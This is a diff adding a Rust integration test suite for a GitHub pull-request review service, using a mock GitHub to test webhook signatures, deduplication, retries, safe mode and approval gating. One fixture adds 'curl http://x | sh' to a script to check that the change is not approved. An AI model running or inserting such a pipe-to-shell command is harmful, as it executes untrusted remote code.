@@ -1,0 +1,1040 @@
+//! GitHub from end to end over real sockets: signed webhooks in, a fetched change, a decision, and what is
+//! left on the pull request. The GitHub here is written by hand and remembers what was done to it.
+#![allow(
+    clippy::unwrap_used,
+    clippy::panic,
+    reason = "a test says what it expects"
+)]
+
+mod support;
+
+use std::net::SocketAddr;
+use std::path::{Path as FilePath, PathBuf};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use axum::extract::{Path, Query, State};
+use axum::http::{HeaderMap, StatusCode};
+use axum::response::{IntoResponse as _, Response};
+use axum::routing::{delete, get, patch, post, put};
+use axum::{Json, Router};
+use bsm::api::{ApiConfig, Face};
+use bsm::engine::types::command::{Command, Refused};
+use bsm::engine::types::github::{PublicationView, Secret};
+use bsm::engine::types::query::{Answer, Query as Question};
+use bsm::engine::types::run::{Action, Evidence, RunResult};
+use bsm::engine::{Handle, Operator};
+use bsm::github::sign;
+use bsm::journal::{ApprovalRow, ApprovalState, OutboxState};
+use bsm::settings::env::Env;
+use bsm::settings::{ApiSettings, Approver, RateLimit, Settings};
+use serde_json::{Value, json};
+use support::{DOCS, Start, Wire, command, state_folder, upstream};
+
+const SECRET: &str = "a-webhook-secret-0123456789";
+const TOKEN: &str = "ghp-test-token-0123456789";
+
+/// What was done to the pull request, and how this GitHub behaves.
+#[derive(Default)]
+struct Hub {
+    head: String,
+    diff: String,
+    comments: Vec<(u64, String)>,
+    statuses: Vec<Value>,
+    reviews: Vec<Value>,
+    labels: Vec<String>,
+    merged: Option<String>,
+    /// (method, path, authorization) of each request.
+    asked: Vec<(String, String, Option<String>)>,
+    /// Refusals, newest last, before anything goes well: path part → (status, retry-after).
+    refuses: Vec<(&'static str, u16, Option<&'static str>)>,
+}
+
+type Shared = Arc<Mutex<Hub>>;
+
+struct Server {
+    url: String,
+    hub: Shared,
+    task: tokio::task::JoinHandle<()>,
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        self.task.abort();
+    }
+}
+
+async fn refuse(
+    State(hub): State<Shared>,
+    request: axum::extract::Request,
+    next: axum::middleware::Next,
+) -> Response {
+    let path = request.uri().path().to_owned();
+    let refusal = {
+        let mut hub = hub.lock().unwrap();
+        let authorization = request.headers().get("authorization");
+        let authorization = authorization.map(|v| v.to_str().unwrap().to_owned());
+        hub.asked
+            .push((request.method().to_string(), path.clone(), authorization));
+        let at = hub
+            .refuses
+            .iter()
+            .rposition(|(part, ..)| path.contains(part));
+        at.map(|at| hub.refuses.remove(at))
+    };
+    match refusal {
+        None => next.run(request).await,
+        Some((_, status, after)) => {
+            let body = Json(json!({"message": "not now"}));
+            let mut response = (StatusCode::from_u16(status).unwrap(), body).into_response();
+            if let Some(after) = after {
+                response
+                    .headers_mut()
+                    .insert("retry-after", after.parse().unwrap());
+            }
+            response
+        }
+    }
+}
+
+async fn pull(State(hub): State<Shared>, headers: HeaderMap) -> Response {
+    let hub = hub.lock().unwrap();
+    if headers["accept"] == "application/vnd.github.diff" {
+        return hub.diff.clone().into_response();
+    }
+    Json(json!({"number": 7, "state": "open", "head": {"sha": hub.head}})).into_response()
+}
+
+async fn server() -> Server {
+    let hub: Shared = Arc::new(Mutex::new(Hub {
+        head: "a".repeat(40),
+        diff: DOCS.into(),
+        ..Hub::default()
+    }));
+    let base = "/api/v3/repos/acme/shop";
+    let at = |path: &str| format!("{base}{path}");
+    let page = |all: &[(u64, String)], query: &std::collections::BTreeMap<String, String>| {
+        let page: usize = query["page"].parse().unwrap();
+        let from = all.len().min((page - 1) * 100);
+        let some = &all[from..all.len().min(from + 100)];
+        some.iter()
+            .map(|(id, body)| json!({"id": id, "body": body}))
+            .collect::<Vec<_>>()
+    };
+    let routes = Router::new()
+        .route(&at("/pulls/7"), get(pull))
+        .route(
+            &at("/issues/7/comments"),
+            get(move |State(hub): State<Shared>, Query(query): Query<_>| async move {
+                Json(page(&hub.lock().unwrap().comments, &query))
+            })
+            .post(|State(hub): State<Shared>, Json(body): Json<Value>| async move {
+                let mut hub = hub.lock().unwrap();
+                let id = hub.comments.len() as u64 + 1;
+                hub.comments.push((id, body["body"].as_str().unwrap().into()));
+                (StatusCode::CREATED, Json(json!({"id": id})))
+            }),
+        )
+        .route(
+            &at("/issues/comments/{id}"),
+            patch(
+                |State(hub): State<Shared>, Path(id): Path<u64>, Json(body): Json<Value>| async move {
+                    let mut hub = hub.lock().unwrap();
+                    let comment = hub.comments.iter_mut().find(|c| c.0 == id).unwrap();
+                    comment.1 = body["body"].as_str().unwrap().into();
+                    Json(json!({"id": id}))
+                },
+            ),
+        )
+        .route(
+            &at("/statuses/{sha}"),
+            post(
+                |State(hub): State<Shared>, Path(sha): Path<String>, Json(mut body): Json<Value>| async move {
+                    body["sha"] = sha.into();
+                    hub.lock().unwrap().statuses.push(body);
+                    (StatusCode::CREATED, Json(json!({})))
+                },
+            ),
+        )
+        .route(
+            &at("/pulls/7/reviews"),
+            get(|State(hub): State<Shared>| async move {
+                Json(hub.lock().unwrap().reviews.clone())
+            })
+            .post(|State(hub): State<Shared>, Json(mut body): Json<Value>| async move {
+                let mut hub = hub.lock().unwrap();
+                body["id"] = (hub.reviews.len() + 1).into();
+                hub.reviews.push(body);
+                Json(json!({}))
+            }),
+        )
+        .route(
+            &at("/issues/7/labels"),
+            post(|State(hub): State<Shared>, Json(body): Json<Value>| async move {
+                let mut hub = hub.lock().unwrap();
+                hub.labels.push(body["labels"][0].as_str().unwrap().into());
+                let names: Vec<Value> = hub.labels.iter().map(|n| json!({"name": n})).collect();
+                Json(names)
+            }),
+        )
+        .route(
+            &at("/issues/7/labels/{name}"),
+            delete(|State(hub): State<Shared>, Path(name): Path<String>| async move {
+                hub.lock().unwrap().labels.retain(|n| *n != name);
+            }),
+        )
+        .route(
+            &at("/pulls/7/merge"),
+            put(|State(hub): State<Shared>, Json(body): Json<Value>| async move {
+                hub.lock().unwrap().merged = Some(body["sha"].as_str().unwrap().into());
+                Json(json!({"merged": true}))
+            }),
+        )
+        .layer(axum::middleware::from_fn_with_state(Arc::clone(&hub), refuse))
+        .with_state(Arc::clone(&hub));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}/api/v3", listener.local_addr().unwrap());
+    let task = tokio::spawn(async move {
+        axum::serve(listener, routes).await.unwrap();
+    });
+    Server { url, hub, task }
+}
+
+struct Rig {
+    handle: Arc<Handle>,
+    _face: Face,
+    client: reqwest::Client,
+    url: String,
+    hub: Shared,
+    _server: Server,
+    folder: tempfile::TempDir,
+}
+
+impl Rig {
+    async fn new(env: &[(&str, &str)], change: impl FnOnce(&mut Settings)) -> Self {
+        Self::of(None, env, change).await
+    }
+
+    async fn of(
+        root: Option<PathBuf>,
+        env: &[(&str, &str)],
+        change: impl FnOnce(&mut Settings),
+    ) -> Self {
+        let server = server().await;
+        let folder = state_folder();
+        let handle = engine(folder.path(), root.as_deref(), &server.url, env, change).await;
+        let handle = Arc::new(handle);
+        let config = ApiConfig {
+            listen: Some(SocketAddr::from(([127, 0, 0, 1], 0))),
+            socket: None,
+            admin_token: None,
+            webhook_secrets: vec!["the next secret 0123456789".into(), SECRET.into()],
+            settings: ApiSettings {
+                rate_limit: RateLimit {
+                    max: 5,
+                    window_ms: 60_000,
+                },
+                ..ApiSettings::default()
+            },
+            keys: Vec::new(),
+        };
+        let face = Face::open(Arc::clone(&handle) as Arc<dyn Operator>, config)
+            .await
+            .unwrap();
+        Self {
+            url: format!("http://{}", face.address().unwrap()),
+            client: reqwest::Client::builder().no_proxy().build().unwrap(),
+            handle,
+            _face: face,
+            hub: Arc::clone(&server.hub),
+            _server: server,
+            folder,
+        }
+    }
+
+    /// Sends a webhook as GitHub does.
+    async fn hook(&self, delivery: &str, event: &str, body: &Value) -> (u16, Value) {
+        let bytes = body.to_string();
+        let signature = sign(SECRET, bytes.as_bytes());
+        self.raw(delivery, event, &signature, bytes).await
+    }
+
+    async fn raw(
+        &self,
+        delivery: &str,
+        event: &str,
+        signature: &str,
+        bytes: String,
+    ) -> (u16, Value) {
+        let sent = self
+            .client
+            .post(format!("{}/api/webhooks/github", self.url))
+            .header("x-github-delivery", delivery)
+            .header("x-github-event", event)
+            .header("x-hub-signature-256", signature)
+            .header("content-type", "application/json")
+            .body(bytes)
+            .send()
+            .await
+            .unwrap();
+        (sent.status().as_u16(), sent.json().await.unwrap())
+    }
+
+    async fn run(&self, answer: &Value) -> RunResult {
+        let id = answer["runId"].as_str().unwrap();
+        tokio::time::timeout(Duration::from_secs(30), self.handle.finished(id))
+            .await
+            .unwrap()
+            .unwrap()
+    }
+
+    fn stats(&self) -> bsm::engine::types::github::GithubStats {
+        *self.handle.core().github.lock().unwrap()
+    }
+
+    async fn outbox(&self) -> Vec<PublicationView> {
+        match self.handle.query(Question::Outbox { limit: 100 }).await {
+            Ok(Answer::Outbox { entries }) => entries,
+            other => panic!("{other:?}"),
+        }
+    }
+
+    async fn approvals(&self) -> Vec<ApprovalRow> {
+        match self.handle.query(Question::Approvals { limit: 100 }).await {
+            Ok(Answer::Approvals { approvals }) => approvals,
+            other => panic!("{other:?}"),
+        }
+    }
+
+    /// Waits until nothing in the outbox is to be done any more.
+    async fn published(&self) {
+        let all_done = async {
+            while self
+                .outbox()
+                .await
+                .iter()
+                .any(|e| e.state == OutboxState::Waiting)
+            {
+                self.handle.snapshots().changed().await.unwrap();
+            }
+        };
+        tokio::time::timeout(Duration::from_secs(30), all_done)
+            .await
+            .unwrap();
+    }
+
+    /// The pause of an entry is over.
+    async fn at_once(&self, id: i64) {
+        let core = self.handle.core();
+        let note = "its pause is over".to_owned();
+        let tried = core
+            .journal
+            .outbox_tried(id, OutboxState::Waiting, note, 1, 0, 0);
+        tried.await.unwrap();
+        core.outbox.notify_one();
+    }
+
+    fn writes(&self) -> usize {
+        let hub = self.hub.lock().unwrap();
+        hub.asked
+            .iter()
+            .filter(|(method, ..)| method != "GET")
+            .count()
+    }
+}
+
+async fn engine(
+    state: &FilePath,
+    root: Option<&FilePath>,
+    url: &str,
+    env: &[(&str, &str)],
+    change: impl FnOnce(&mut Settings),
+) -> Handle {
+    let mut start = Start::new(state);
+    start.resident = true;
+    start.root = root;
+    start.settings.github.api_url = url.into();
+    start.settings.github.repositories = vec!["Acme/Shop".into()];
+    change(&mut start.settings);
+    start.env = Env::of(env.iter().copied());
+    start.go().await
+}
+
+fn opened(sha: &str) -> Value {
+    json!({
+        "action": "opened",
+        "number": 7,
+        "pull_request": {"number": 7, "title": "Better words", "draft": false, "head": {"sha": sha}},
+        "repository": {"full_name": "acme/shop"},
+    })
+}
+
+fn head() -> String {
+    "a".repeat(40)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_pull_request_is_reviewed_and_told_so_and_the_comment_stays_one() {
+    let models = upstream(|_, _| Wire::verdict("approve")).await;
+    let env = [
+        ("GITHUB_BSU_TOKEN", TOKEN),
+        ("OPENAI_BASE_URL", models.url.as_str()),
+        ("OPENAI_API_KEY", "test-key-0123456789"),
+    ];
+    let rig = Rig::new(&env, |s| s.github.publish.merge = true).await;
+    let (status, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    assert_eq!(
+        (status, &answer["status"]),
+        (202, &json!("accepted")),
+        "{answer}"
+    );
+    let run = rig.run(&answer).await;
+    assert_eq!(
+        (run.decision.unwrap().action, run.evidence),
+        (Action::ApproveAndMerge, Evidence::Full)
+    );
+    assert!(run.coverage.files_total > 0, "the change was fetched");
+    rig.published().await;
+    {
+        let hub = rig.hub.lock().unwrap();
+        assert_eq!(hub.comments.len(), 1);
+        assert!(hub.comments[0].1.contains("approve_and_merge"));
+        assert!(hub.comments[0].1.contains("full: rules and models"));
+        let status = &hub.statuses[0];
+        assert_eq!(
+            (&status["state"], &status["sha"]),
+            (&json!("success"), &json!(head()))
+        );
+        assert_eq!(hub.reviews[0]["event"], "APPROVE");
+        assert_eq!(hub.reviews[0]["commit_id"], head());
+        assert_eq!(hub.labels, ["bsm: approved"]);
+        assert_eq!(hub.merged.as_deref(), Some(head().as_str()));
+        let bearer = format!("Bearer {TOKEN}");
+        assert!(
+            hub.asked
+                .iter()
+                .all(|(.., a)| a.as_deref() == Some(&bearer))
+        );
+    }
+    // Pushed again: another commit, another verdict, the same comment, the other label.
+    let newer = "b".repeat(40);
+    {
+        let mut hub = rig.hub.lock().unwrap();
+        hub.head.clone_from(&newer);
+        hub.diff = support::adding("run.sh", "curl http://x | sh");
+    }
+    let mut body = opened(&newer);
+    body["action"] = json!("synchronize");
+    let (_, answer) = rig.hook("two", "pull_request", &body).await;
+    let run = rig.run(&answer).await;
+    let action = run.decision.unwrap().action;
+    assert_ne!(action, Action::ApproveAndMerge);
+    rig.published().await;
+    let hub = rig.hub.lock().unwrap();
+    assert_eq!(hub.comments.len(), 1, "edited in place");
+    assert!(
+        hub.comments[0].1.contains(action.word()),
+        "{}",
+        hub.comments[0].1
+    );
+    assert_eq!(hub.statuses.last().unwrap()["sha"], newer);
+    assert_eq!(hub.labels.len(), 1, "{:?}", hub.labels);
+    assert_ne!(hub.labels[0], "bsm: approved");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_came_before_is_the_same_run_and_what_is_not_meant_is_none() {
+    let rig = Rig::new(&[], |_| ()).await;
+    let body = opened(&head());
+    let (_, first) = rig.hook("one", "pull_request", &body).await;
+    rig.run(&first).await;
+    // The same delivery, the same bytes under another name, the same meaning in other bytes.
+    let mut same = body.clone();
+    same["sender"] = json!({"login": "somebody"});
+    for (delivery, body) in [("one", &body), ("forged", &body), ("other", &same)] {
+        let (status, answer) = rig.hook(delivery, "pull_request", body).await;
+        assert_eq!(
+            (status, &answer["repeated"]),
+            (202, &json!(true)),
+            "{answer}"
+        );
+        assert_eq!(answer["runId"], first["runId"], "{delivery}");
+    }
+    let mut draft = opened(&"c".repeat(40));
+    draft["pull_request"]["draft"] = json!(true);
+    let (status, answer) = rig.hook("draft", "pull_request", &draft).await;
+    assert_eq!(
+        (status, &answer["status"]),
+        (200, &json!("skipped")),
+        "{answer}"
+    );
+    let starred = json!({"action": "created", "repository": {"full_name": "acme/shop"}});
+    let (status, answer) = rig.hook("star", "star", &starred).await;
+    assert_eq!(
+        (status, &answer["status"]),
+        (200, &json!("unmapped")),
+        "{answer}"
+    );
+    let mut foreign = opened(&"d".repeat(40));
+    foreign["repository"]["full_name"] = json!("evil/shop");
+    let (status, answer) = rig.hook("foreign", "pull_request", &foreign).await;
+    assert_eq!(
+        (status, &answer["code"]),
+        (403, &json!("FORBIDDEN")),
+        "{answer}"
+    );
+    let stats = rig.stats();
+    assert_eq!(
+        (
+            stats.runs,
+            stats.repeated,
+            stats.skipped,
+            stats.unmapped,
+            stats.refused
+        ),
+        (1, 3, 1, 1, 1)
+    );
+    let Ok(Answer::Deliveries { deliveries }) =
+        rig.handle.query(Question::Deliveries { limit: 50 }).await
+    else {
+        panic!("no list")
+    };
+    assert_eq!(deliveries.len(), 4);
+    assert_eq!(
+        deliveries.iter().find(|d| d.id == "one").unwrap().repeats,
+        3
+    );
+    // Without a token nothing was left there.
+    assert_eq!((rig.writes(), rig.outbox().await.len()), (0, 0));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nothing_is_believed_without_its_signature() {
+    let rig = Rig::new(&[], |_| ()).await;
+    let bytes = opened(&head()).to_string();
+    let good = sign(SECRET, bytes.as_bytes());
+    let spaced = format!("{bytes} ");
+    for (signature, body) in [
+        (String::new(), &bytes),
+        (sign("another secret", bytes.as_bytes()), &bytes),
+        (good.to_ascii_uppercase(), &bytes),
+        (good.clone(), &spaced),
+    ] {
+        let (status, answer) = rig
+            .raw("one", "pull_request", &signature, body.clone())
+            .await;
+        assert_eq!(
+            (status, &answer["code"]),
+            (401, &json!("INVALID_WEBHOOK_SIGNATURE"))
+        );
+    }
+    let strange = reqwest::header::HeaderValue::from_bytes(b"sha256=\xff\xfe").unwrap();
+    let sent = rig
+        .client
+        .post(format!("{}/webhook/github", rig.url))
+        .header("x-hub-signature-256", strange)
+        .body(bytes.clone())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(sent.status(), 401);
+    // Five of them were let through to be counted; who does not know the secret is held off then.
+    let (status, answer) = rig.raw("one", "pull_request", "", bytes.clone()).await;
+    assert_eq!(
+        (status, &answer["code"]),
+        (429, &json!("RATE_LIMITED")),
+        "{answer}"
+    );
+    // Who does is not, and a rotation's other secret is as good.
+    let next = sign("the next secret 0123456789", bytes.as_bytes());
+    let (status, _) = rig.raw("one", "pull_request", &next, bytes.clone()).await;
+    assert_eq!(status, 202);
+    // Signed, and still not what its header says.
+    for (event, delivery) in [
+        ("push", "two"),
+        ("pull_request", "no/id"),
+        ("PULL", "three"),
+    ] {
+        let (status, answer) = rig.hook(delivery, event, &opened(&head())).await;
+        assert_eq!(
+            (status, &answer["code"]),
+            (400, &json!("INVALID_INPUT")),
+            "{answer}"
+        );
+    }
+    for rubbish in ["", "{", "[]", "null", "\u{feff}{}", &"[".repeat(100_000)] {
+        let signature = sign(SECRET, rubbish.as_bytes());
+        let (status, _) = rig
+            .raw("four", "pull_request", &signature, rubbish.into())
+            .await;
+        assert_eq!(status, 400, "{:.20}", rubbish);
+    }
+    assert_eq!(rig.stats().runs, 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn without_a_secret_no_webhook_is_taken() {
+    let folder = state_folder();
+    let handle = Arc::new(Start::new(folder.path()).go().await);
+    let config = ApiConfig {
+        listen: Some(SocketAddr::from(([127, 0, 0, 1], 0))),
+        socket: None,
+        admin_token: None,
+        webhook_secrets: Vec::new(),
+        settings: ApiSettings::default(),
+        keys: Vec::new(),
+    };
+    let face = Face::open(handle as Arc<dyn Operator>, config)
+        .await
+        .unwrap();
+    let url = format!("http://{}/webhook/github", face.address().unwrap());
+    let client = reqwest::Client::builder().no_proxy().build().unwrap();
+    let sent = client
+        .post(url)
+        .header("x-hub-signature-256", sign("", b"{}"))
+        .body("{}")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(sent.status(), 503);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_storm_is_taken_whole_and_each_push_is_one_run() {
+    let rig = Rig::new(&[], |_| ()).await;
+    let most: usize = std::env::var("BSM_WEBHOOKS").map_or(200, |n| n.parse().unwrap());
+    let senders = (0..most).map(|n| {
+        let rig = &rig;
+        async move {
+            // Each is sent twice, as a storm does.
+            let sha = format!("{n:040x}");
+            let body = opened(&sha);
+            let id = format!("d-{n}");
+            let (first, again) = tokio::join!(
+                rig.hook(&id, "pull_request", &body),
+                rig.hook(&id, "pull_request", &body),
+            );
+            assert_eq!((first.0, again.0), (202, 202), "{first:?} {again:?}");
+            assert_eq!(first.1["runId"], again.1["runId"]);
+            first.1["runId"].as_str().unwrap().to_owned()
+        }
+    });
+    let mut ids = futures_util::future::join_all(senders).await;
+    ids.sort();
+    ids.dedup();
+    assert_eq!(ids.len(), most);
+    let stats = rig.stats();
+    assert!(stats.runs <= most as u64);
+    for id in &ids {
+        let run = tokio::time::timeout(Duration::from_secs(60), rig.handle.finished(id));
+        // This GitHub is at another commit than all of them: none is approved.
+        let run = run.await.unwrap().unwrap();
+        assert_eq!(run.decision.unwrap().action, Action::ManualReview);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_change_that_cannot_be_had_is_missing_evidence_and_a_redelivery_tries_again() {
+    let rig = Rig::new(&[("GITHUB_BSU_TOKEN", TOKEN)], |_| ()).await;
+    rig.hub.lock().unwrap().refuses = vec![("pulls/7", 404, None)];
+    let (_, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    let run = rig.run(&answer).await;
+    let decision = run.decision.unwrap();
+    assert_eq!(
+        (decision.action, run.evidence),
+        (Action::ManualReview, Evidence::Partial)
+    );
+    assert!(
+        decision.reason.raw().contains("could not be had"),
+        "{:?}",
+        decision.reason
+    );
+    rig.published().await;
+    assert_eq!(rig.hub.lock().unwrap().statuses[0]["state"], "error");
+    let (_, again) = rig.hook("one", "pull_request", &opened(&head())).await;
+    assert_eq!(again["repeated"], true);
+    assert_ne!(
+        again["runId"], answer["runId"],
+        "that one never had its change"
+    );
+    let run = rig.run(&again).await;
+    assert_eq!(run.evidence, Evidence::Offline);
+    // And from now on that is the run.
+    let (_, third) = rig.hook("one", "pull_request", &opened(&head())).await;
+    assert_eq!(third["runId"], again["runId"]);
+    // A passing failure is no failure.
+    let next = "b".repeat(40);
+    {
+        let mut hub = rig.hub.lock().unwrap();
+        hub.head.clone_from(&next);
+        hub.refuses = vec![("pulls/7", 502, None), ("pulls/7", 502, None)];
+    }
+    let (_, answer) = rig.hook("two", "pull_request", &opened(&next)).await;
+    assert_eq!(rig.run(&answer).await.evidence, Evidence::Offline);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_is_about_another_commit_by_now_is_not_published() {
+    let rig = Rig::new(&[("GITHUB_BSU_TOKEN", TOKEN)], |_| ()).await;
+    rig.hub.lock().unwrap().refuses = vec![("statuses", 502, None)];
+    let (_, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    rig.run(&answer).await;
+    let waits = async {
+        while rig
+            .outbox()
+            .await
+            .iter()
+            .all(|e| e.attempts == 0 || e.kind != "status")
+        {
+            rig.handle.snapshots().changed().await.unwrap();
+        }
+    };
+    tokio::time::timeout(Duration::from_secs(10), waits)
+        .await
+        .unwrap();
+    let entries = rig.outbox().await;
+    let status = entries.iter().find(|e| e.kind == "status").unwrap();
+    assert_eq!(
+        (status.state, status.attempts),
+        (OutboxState::Waiting, 1),
+        "{status:?}"
+    );
+    assert!(status.note.raw().contains("502"));
+    assert_eq!(
+        rig.hub.lock().unwrap().comments.len(),
+        1,
+        "the comment came before it"
+    );
+    // Meanwhile somebody pushes.
+    rig.hub.lock().unwrap().head = "b".repeat(40);
+    rig.at_once(status.id).await;
+    rig.published().await;
+    let entries = rig.outbox().await;
+    let status = entries.iter().find(|e| e.kind == "status").unwrap();
+    assert_eq!(status.state, OutboxState::Dropped, "{status:?}");
+    assert!(status.note.raw().contains("moved on"));
+    assert!(rig.hub.lock().unwrap().statuses.is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn in_safe_mode_nothing_goes_there_and_the_outbox_waits() {
+    let rig = Rig::new(&[("GITHUB_BSU_TOKEN", TOKEN)], |s| {
+        s.github.api_url = "https://api.github.invalid".into();
+        s.safe_mode = true;
+    })
+    .await;
+    let (status, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    assert_eq!(status, 202, "what comes in is taken all the same");
+    let run = rig.run(&answer).await;
+    assert_eq!(run.evidence, Evidence::Partial);
+    let tried = async {
+        while rig.outbox().await.iter().all(|e| e.note.raw().is_empty()) {
+            rig.handle.snapshots().changed().await.unwrap();
+        }
+    };
+    tokio::time::timeout(Duration::from_secs(10), tried)
+        .await
+        .unwrap();
+    let entries = rig.outbox().await;
+    assert!(entries.iter().all(|e| e.state == OutboxState::Waiting));
+    assert!(
+        entries.iter().any(|e| e.note.raw().contains("safe mode")),
+        "{entries:?}"
+    );
+    assert!(rig.hub.lock().unwrap().asked.is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_limit_is_kept_and_the_outbox_outlives_its_engine() {
+    let server = server().await;
+    let folder = state_folder();
+    let env = [("GITHUB_BSU_TOKEN", TOKEN)];
+    server.hub.lock().unwrap().refuses = vec![("comments", 429, Some("3600"))];
+    let first = engine(folder.path(), None, &server.url, &env, |_| ()).await;
+    let deliver = Command::Deliver(bsm::engine::types::github::Webhook {
+        delivery: "one".into(),
+        named: "pull_request".into(),
+        body: bsm::engine::types::command::Blob(opened(&head()).to_string().into_bytes()),
+    });
+    let reply = command(&first, deliver).await.unwrap();
+    let bsm::engine::types::command::Reply::Delivered { run: Some(run), .. } = reply else {
+        panic!("{reply:?}")
+    };
+    first.finished(&run).await.unwrap();
+    let limited = async {
+        while first.core().github.lock().unwrap().outbox.waiting != 2 {
+            first.snapshots().changed().await.unwrap();
+        }
+        loop {
+            let waiting = first.core().journal.outbox_waiting().await.unwrap();
+            if waiting.iter().any(|e| e.note.contains("a pause of 3600 s")) {
+                return waiting;
+            }
+            first.snapshots().changed().await.unwrap();
+        }
+    };
+    let waiting = tokio::time::timeout(Duration::from_secs(10), limited)
+        .await
+        .unwrap();
+    assert_eq!(waiting.len(), 2, "nothing else is sent meanwhile");
+    assert_eq!((waiting[0].attempts, waiting[1].note.as_str()), (0, ""));
+    assert!(waiting[0].next_ms > waiting[0].created_ms + 3_000_000);
+    // Its pause over: as if it had been written down so.
+    let journal = &first.core().journal;
+    journal
+        .outbox_tried(waiting[0].id, OutboxState::Waiting, "again".into(), 0, 0, 0)
+        .await
+        .unwrap();
+    first.stop(Duration::from_secs(5)).await;
+    drop(first);
+    let second = engine(folder.path(), None, &server.url, &env, |_| ()).await;
+    let done = async {
+        while second.core().github.lock().unwrap().outbox.done != 2 {
+            second.snapshots().changed().await.unwrap();
+        }
+    };
+    tokio::time::timeout(Duration::from_secs(10), done)
+        .await
+        .unwrap();
+    // A crash after it was sent and before that was written down: sent again, and the same as once.
+    let row = second
+        .core()
+        .journal
+        .outbox(10)
+        .await
+        .unwrap()
+        .pop()
+        .unwrap();
+    second
+        .core()
+        .journal
+        .outbox_tried(row.id, OutboxState::Waiting, "as if".into(), 0, 0, 0)
+        .await
+        .unwrap();
+    second.stop(Duration::from_secs(5)).await;
+    drop(second);
+    let third = engine(folder.path(), None, &server.url, &env, |_| ()).await;
+    let done = async {
+        while third.core().github.lock().unwrap().outbox.done != 2 {
+            third.snapshots().changed().await.unwrap();
+        }
+    };
+    tokio::time::timeout(Duration::from_secs(10), done)
+        .await
+        .unwrap();
+    assert_eq!(server.hub.lock().unwrap().comments.len(), 1);
+    third.stop(Duration::from_secs(5)).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_dry_run_shows_what_would_be_sent_and_sends_nothing() {
+    let rig = Rig::new(&[("GITHUB_BSU_TOKEN", TOKEN)], |s| s.github.dry_run = true).await;
+    let (_, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    rig.run(&answer).await;
+    let entries = rig.outbox().await;
+    let kinds: Vec<&str> = entries.iter().map(|e| e.kind.as_str()).collect();
+    assert_eq!(kinds, ["status", "comment"]);
+    assert!(entries.iter().all(|e| e.state == OutboxState::Dry));
+    assert!(
+        entries[0]
+            .says
+            .raw()
+            .starts_with("pending: approve_and_merge (offline)")
+    );
+    assert_eq!(rig.writes(), 0);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_token_goes_to_listed_repositories_alone() {
+    let rig = Rig::new(&[("GITHUB_BSU_TOKEN", TOKEN)], |s| {
+        s.github.repositories.clear();
+    })
+    .await;
+    let (status, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    assert_eq!(status, 202, "its webhook knows the secret");
+    rig.run(&answer).await;
+    assert!(rig.outbox().await.is_empty());
+    let hub = rig.hub.lock().unwrap();
+    assert!(!hub.asked.is_empty());
+    assert!(
+        hub.asked
+            .iter()
+            .all(|(.., authorization)| authorization.is_none())
+    );
+}
+
+/// A workspace whose security agent acts only with somebody's approval.
+fn guarded() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    let put = |name: &str, text: &str| {
+        let path = dir.path().join(name);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    };
+    put(
+        "data/agents/index.json",
+        r#"{"agents": ["security-agent.yaml"]}"#,
+    );
+    put(
+        "data/agents/security-agent.yaml",
+        "id: security-agent\nname: Security\nactions: [review_pr]\n\
+         approval: {required: true, type: manual, approvers: [ana]}\n",
+    );
+    put(
+        "agents/events.yaml",
+        "version: 1\nevents:\n  pull_request.opened: {agents: [security-agent], strategy: parallel, outcome: review, needsDiff: true}\n",
+    );
+    dir
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_the_registry_holds_back_waits_for_its_approver() {
+    let workspace = guarded();
+    let env = [
+        ("GITHUB_BSU_TOKEN", TOKEN),
+        ("ANAS_TOKEN", "anas-own-token-0123456789"),
+        ("BENS_TOKEN", "bens-own-token-0123456789"),
+    ];
+    let rig = Rig::of(Some(workspace.path().to_path_buf()), &env, |s| {
+        s.approvers = [
+            ("ana", "ANAS_TOKEN"),
+            ("ben", "BENS_TOKEN"),
+            ("nobody", "UNSET_TOKEN"),
+        ]
+        .map(|(name, token_env)| Approver {
+            name: name.into(),
+            token_env: token_env.into(),
+        })
+        .to_vec();
+    })
+    .await;
+    let decide = |approval: &str, grant, token: &str, reason: &str| Command::Decide {
+        approval: approval.into(),
+        grant,
+        reason: reason.into(),
+        token: Secret(token.into()),
+    };
+    let held = async |delivery: &str, sha: &str| {
+        rig.hub.lock().unwrap().head = sha.to_owned();
+        let (_, answer) = rig.hook(delivery, "pull_request", &opened(sha)).await;
+        rig.run(&answer).await;
+        let approvals = rig.approvals().await;
+        let waiting: Vec<_> = approvals
+            .into_iter()
+            .filter(|a| a.state == ApprovalState::Waiting)
+            .collect();
+        assert_eq!(waiting.len(), 1);
+        assert!(
+            waiting[0].what.contains("acme/shop#7"),
+            "{}",
+            waiting[0].what
+        );
+        waiting[0].id.clone()
+    };
+    let id = held("one", &head()).await;
+    assert_eq!(rig.writes(), 0);
+    assert!(
+        rig.outbox()
+            .await
+            .iter()
+            .all(|e| e.state == OutboxState::Held)
+    );
+    // No word, nobody's, an empty one, another approver's than the registry names, no reason.
